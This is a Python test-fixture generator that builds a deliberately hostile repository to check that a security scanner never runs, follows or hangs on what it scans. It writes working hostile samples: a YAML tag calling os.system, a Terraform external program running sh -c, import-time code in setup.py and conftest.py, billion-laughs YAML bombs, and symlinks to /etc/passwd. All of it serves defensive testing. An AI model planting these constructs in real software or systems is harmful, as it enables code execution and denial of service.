"""A generator of hostile trees: every kind of file a malicious or merely odd repository can hold.

:func:`build` writes the tree under ``root`` and its "outside world" under ``outside`` (files the
tree links to that a scan must never read) and returns a :class:`HostileTree` describing what a
correct scan must show. Nothing here holds a secret literally: the one real secret is built at run
time, so this file never trips a secret scanner itself.

Sizes are small on purpose (the whole tree is about 2 MB) so a full scan stays in seconds; the
"very large" file is large relative to the ``max_bytes`` limit the caller passes to the scan.
"""

from __future__ import annotations

import contextlib
import os
import random
import socket
import stat
import string
from dataclasses import dataclass, field
from pathlib import Path

#: What the outside-the-root file holds; it must never appear in any output.
OUTSIDE_MARKER = "OUTSIDE-MARKER-7f3a9c1e-never-read"
#: Default size limit the tests scan with (``--max-file-size``); the big file exceeds it.
MAX_BYTES = 1_000_000
#: Nesting depth of the deep YAML/JSON files: past Python's recursion limit, short of a C stack.
DEEP = 5_000


def aws_key(seed: int = 10) -> str:
    """A syntactically real AWS access key id, different from AWS's documented example."""
    rng = random.Random(seed)
    return "AKIA" + "".join(rng.choice(string.ascii_uppercase + "234567") for _ in range(16))


def billion_laughs(header: str, levels: int = 10, width: int = 10) -> str:
    """A YAML document whose anchors expand to ``width ** levels`` scalars (10 billion by default)
    while the file stays under a kilobyte."""
    lines = [header.rstrip("\n"), "lols:"]
    lines.append('  l0: &l0 ["lol"' + ', "lol"' * (width - 1) + "]")
    for i in range(1, levels):
        refs = ", ".join([f"*l{i - 1}"] * width)
        lines.append(f"  l{i}: &l{i} [{refs}]")
    return "\n".join(lines) + "\n"


@dataclass
class HostileTree:
    root: Path
    outside: Path
    secret_path: str
    """Root-relative file holding the one real secret."""
    secret: str
    syntax_error_path: str
    """Root-relative Python file that does not parse."""
    pwned: Path
    """Created by any scanned file if it is ever executed; must never exist."""
    skipped: dict[str, str] = field(default_factory=dict)
    """Root-relative path -> a word the notice about it must contain."""


def _write(root: Path, rel: str | bytes, data: bytes) -> None:
    base = os.fsencode(root)
    rel_b = rel if isinstance(rel, bytes) else os.fsencode(rel)
    full = os.path.join(base, rel_b)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as fh:
        fh.write(data)


def build(root: Path, outside: Path, *, max_bytes: int = MAX_BYTES) -> HostileTree:
    """Write the hostile tree. ``root`` and ``outside`` must not exist yet, and be siblings."""
    root.mkdir(parents=True)
    outside.mkdir(parents=True)
    pwned = outside / "PWNED"
    # Executing any of these would create ``pwned``: nothing scanned may ever run.
    run_me = f"open({str(pwned)!r}, 'w').write('executed')\n"
    key = aws_key()
    tree = HostileTree(
        root=root,
        outside=outside,
        secret_path="config/settings.py",
        secret=key,
        syntax_error_path="src/broken.py",
        pwned=pwned,
    )
    w = lambda rel, data: _write(root, rel, data)  # noqa: E731

    # -- the outside world ---------------------------------------------------------------------
    (outside / "secret.txt").write_text(f"{OUTSIDE_MARKER}\npassword = '{OUTSIDE_MARKER}'\n")
    (outside / "dir").mkdir()
    (outside / "dir" / "leak.py").write_text(f"PASSWORD = '{OUTSIDE_MARKER}'\n{run_me}")
    # Read through a link, these would put the marker in a report: in a Checkov resource name,
    # in a reported path.
    (outside / "pod.yaml").write_text(
        "apiVersion: v1\nkind: Pod\nmetadata:\n"
        f"  name: {OUTSIDE_MARKER.lower()}\nspec:\n  containers:\n"
        "    - name: c\n      image: nginx\n      securityContext:\n        privileged: true\n"
    )
    (outside / "dir" / f"{OUTSIDE_MARKER}.py").write_text("import pickle\npickle.loads(b'')\n")
    os.mkfifo(outside / "fifo")  # opening it for reading would block: a read is a hang

    # -- the one real secret, and ordinary code ---------------------------------------------------
    w(tree.secret_path, f'AWS_ACCESS_KEY_ID = "{key}"\nREGION = "eu-west-1"\n'.encode())
    w(
        "src/app.py",
        b"import subprocess\n\n\ndef run(cmd):\n    return subprocess.call(cmd, shell=True)\n",
    )
    # Python that would run code if imported or executed.
    w("setup.py", run_me.encode())
    w("conftest.py", run_me.encode())
    w("src/__init__.py", run_me.encode())

    # -- unparsable or odd text ----------------------------------------------------------------
    w(tree.syntax_error_path, b"def broken(:\n    return 1\n")
    w("src/empty.py", b"")
    w("empty.yaml", b"")
    w("empty.txt", b"")
    w("src/crlf.py", b"import os\r\n\r\nos.system('ls')\r\n")
    w("docs/latin1.txt", "café, naïve, Ærøskøbing: ÿ\n".encode("latin-1"))
    w("src/latin1.py", "# coding: latin-1\nname = 'café'\n".encode("latin-1"))
    w("src/undeclared_latin1.py", "name = 'café'\n".encode("latin-1"))
    w("docs/utf16.txt", "UTF-16 text with a BOM\nsecond line\n".encode("utf-16"))
    w("src/utf16.py", "x = 1\n".encode("utf-16"))
    w(
        "k8s/utf16.yaml",
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: u\n".encode("utf-16"),
    )
    w("docs/long-line.txt", b"x" * 300_000 + b"\n")
    w("src/long_line.py", b"x = '" + b"a" * 200_000 + b"'\n")
    w("docs/long-tokens.txt", (b"k=" + b"Zq9" * 50_000 + b"\n"))
    w("data/big.txt", b"0123456789abcdef" * (max_bytes // 16 + 4096))
    tree.skipped["data/big.txt"] = "limit"
    w("data/blob.bin", bytes(range(256)) * 64)
    tree.skipped["data/blob.bin"] = "binary"
    w("data/image.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + os.urandom(64))
    tree.skipped["data/image.png"] = "binary"
    w("src/nul.py", b"x = 1\n\0\0\0\n")
    tree.skipped["src/nul.py"] = "binary"

    # -- YAML: malformed, bombs, deep nesting, templates -----------------------------------------
    w("k8s/malformed.yaml", b"apiVersion: v1\nkind: Pod\nmetadata: [unclosed\n  name: : :\n")
    w(
        "k8s/bomb.yaml",
        billion_laughs("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: lol").encode(),
    )
    w(
        ".github/workflows/bomb.yml",
        billion_laughs("name: ci\non: push\njobs:\n  a:\n    runs-on: ubuntu-latest").encode(),
    )
    w(".gitlab-ci.yml", billion_laughs("stages: [test]").encode())
    w(
        "k8s/deep.yaml",
        b"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: deep\ndata: "
        + b"[" * DEEP
        + b"]" * DEEP
        + b"\n",
    )
    w(
        "k8s/deep-map.yaml",
        b"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: deep\ndata: "
        + b"{a: " * DEEP
        + b"1"
        + b"}" * DEEP
        + b"\n",
    )
    w(
        "k8s/deep.json",
        b'{"apiVersion": "v1", "kind": "List", "items": ' + b"[" * DEEP + b"]" * DEEP + b"}",
    )
    w(
        "k8s/recursive.yaml",
        b"apiVersion: v1\nkind: ConfigMap\nmetadata: &m\n  name: rec\n  self: *m\n",
    )
    w(
        "k8s/templated.yaml",
        b"apiVersion: {{ .Values.api }}\nkind: Deployment\nmetadata:\n"
        b'  name: {{ include "x.fullname" . }}\nspec:\n{{- toYaml .Values.spec | nindent 2 }}\n',
    )
    w(
        "k8s/tags.yaml",
        b"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: t\n"
        b"data:\n  x: !!python/object/apply:os.system ['touch " + os.fsencode(pwned) + b"']\n",
    )
    w(
        "cfn/template.yaml",
        b"AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  B:\n    Type: AWS::S3::Bucket\n"
        b"    Properties: !If [a, *undefined_alias]\n",
    )

    # -- Dockerfiles ---------------------------------------------------------------------------
    w("Dockerfile", b"FROM\nRUN\n\\\n\\\nFROM scratch AS AS AS\nCOPY --from= . .\n\xff\xfe\n")
    w(
        "docker/garbage.Dockerfile",
        b"@@@ %%% {{ }}\n\t\t\n" + b"RUN " * 2000 + b"\n",
    )
    w("docker/Dockerfile.empty", b"")
    w("docker/Dockerfile.pwn", f"FROM alpine\nRUN touch {pwned}\n".encode())

    # -- IaC that would fetch or run something if it were evaluated ------------------------------
    w(
        "tf/main.tf",
        b'module "evil" {\n  source = "git::https://example.invalid/evil.git"\n}\n'
        b'data "external" "x" {\n  program = ["sh", "-c", "touch ' + os.fsencode(pwned) + b'"]\n}\n'
        b'resource "aws_s3_bucket" "b" {\n  bucket = "b"\n  acl    = "public-read"\n}\n',
    )
    w("tf/broken.tf", b'resource "x" {\n  = = {{\n')
    w(
        "chart/Chart.yaml",
        b"apiVersion: v2\nname: evil\nversion: 0.1.0\ndependencies:\n"
        b"  - name: dep\n    version: 1.0.0\n    repository: https://example.invalid/charts\n",
    )
    w("chart/values.yaml", b"image: nginx\n")
    w(
        "chart/templates/deploy.yaml",
        b"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ .Release.Name }}\n",
    )
    w(
        "overlay/kustomization.yaml",
        b"resources:\n  - github.com/example-invalid/evil//base?ref=main\n  - ../k8s\n",
    )

    # -- hostile names ---------------------------------------------------------------------------
    w("names/with space.py", b"import pickle\npickle.loads(b'')\n")
    w("names/new\nline.txt", b"a file whose name holds a newline\n")
    w("names/-rf.py", b"x = 1\n")
    w("names/--help.txt", b"not an option\n")
    w("-leading-dir/--version.yaml", b"a: 1\n")
    w(b"names/latin1-\xe9\xff.py", b"import os\nos.system('x')\n")
    w("names/tab\tand\\backslash.txt", b"ok\n")
    w("names/quote\"and'.txt", b"ok\n")

    # -- special files ---------------------------------------------------------------------------
    os.mkfifo(root / "pipe.yaml")
    tree.skipped["pipe.yaml"] = "regular"
    sock_path = root / "sock"
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as s:
        # The path may be too long for sun_path: bind relative to the folder then.
        cwd = os.getcwd()
        try:
            os.chdir(root)
            s.bind("sock")
        finally:
            os.chdir(cwd)
    if sock_path.exists():
        tree.skipped["sock"] = "regular"
    with contextlib.suppress(OSError):  # needs CAP_MKNOD
        os.mknod(root / "zero.txt", 0o644 | stat.S_IFCHR, os.makedev(1, 5))
    if (root / "zero.txt").exists():
        tree.skipped["zero.txt"] = "regular"

    # -- symlinks --------------------------------------------------------------------------------
    (root / "loop").symlink_to("loop")
    (root / "loop-a.yaml").symlink_to("loop-b.yaml")
    (root / "loop-b.yaml").symlink_to("loop-a.yaml")
    tree.skipped.update({"loop": "loop", "loop-a.yaml": "loop", "loop-b.yaml": "loop"})
    (root / "escape.py").symlink_to(outside / "secret.txt")
    (root / "escape-relative.txt").symlink_to(Path("..") / outside.name / "secret.txt")
    (root / "escape-dir").symlink_to(outside / "dir")
    (root / "escape-fifo.yaml").symlink_to(outside / "fifo")
    (root / "k8s" / "escape-pod.yaml").symlink_to(outside / "pod.yaml")
    (root / "dev-zero.txt").symlink_to("/dev/zero")
    (root / "etc-passwd.txt").symlink_to("/etc/passwd")
    (root / "dangling.txt").symlink_to("does-not-exist")
    for rel in (
        "escape.py",
        "escape-relative.txt",
        "escape-dir",
        "escape-fifo.yaml",
        "k8s/escape-pod.yaml",
        "dev-zero.txt",
        "etc-passwd.txt",
    ):
        tree.skipped[rel] = "outside"
    tree.skipped["dangling.txt"] = "cannot read"
    (root / "src" / "link-inside.py").symlink_to("app.py")  # inside the root: fine
    return tree
